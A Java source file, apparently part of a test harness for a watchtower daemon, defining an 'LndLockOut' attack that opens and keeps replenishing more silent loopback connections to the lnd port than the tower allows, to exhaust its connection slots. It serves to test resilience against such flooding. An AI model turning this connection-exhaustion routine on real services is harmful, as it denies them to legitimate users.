package teos.teosd.attack;

import com.google.common.util.concurrent.Uninterruptibles;
import java.io.IOException;
import java.net.InetAddress;
import java.net.Socket;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CountDownLatch;

/**
 * Attack: opens more silent connections to the lnd port than the tower allows, and replaces lost
 * ones.
 */
public final class LndLockOut implements Attack {

  private static final int HOLDERS = 4;

  private final int port;
  private final int connections;
  private final List<Thread> holders = new ArrayList<>();
  private volatile boolean closed;

  public LndLockOut(int port, int connections) {
    this.port = port;
    this.connections = connections;
  }

  @Override
  public void begin() throws Exception {
    CountDownLatch full = new CountDownLatch(HOLDERS);
    for (int i = 0; i < HOLDERS; i++) {
      holders.add(Thread.ofVirtual().start(() -> keepOpen(full)));
    }
    full.await();
  }

  private void keepOpen(CountDownLatch full) {
    List<Socket> held = new ArrayList<>();
    while (!closed) {
      try {
        if (held.size() == connections / HOLDERS) {
          full.countDown();
          held.removeFirst().close();
          Thread.sleep(5);
        }
        held.add(new Socket(InetAddress.getLoopbackAddress(), port));
      } catch (IOException e) {
        Thread.onSpinWait(); // the tower is restarting
      } catch (InterruptedException e) {
        break;
      }
    }
    for (Socket socket : held) {
      try {
        socket.close();
      } catch (IOException e) {
        // already closed
      }
    }
  }

  @Override
  public void close() throws IOException {
    closed = true;
    for (Thread holder : holders) {
      holder.interrupt();
      Uninterruptibles.joinUninterruptibly(holder);
    }
  }
}
